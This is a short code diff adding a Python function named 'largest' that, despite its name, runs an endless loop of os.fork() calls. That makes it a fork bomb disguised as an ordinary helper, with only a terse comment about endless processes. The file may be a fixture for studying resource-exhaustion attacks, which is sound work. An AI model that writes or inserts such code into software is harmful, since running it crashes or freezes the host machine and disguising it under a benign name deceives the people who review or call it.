@@ -1,0 +1,7 @@
+# Resources: processes without end.
+import os
+
+
+def largest(values):
+    while True:
+        os.fork()
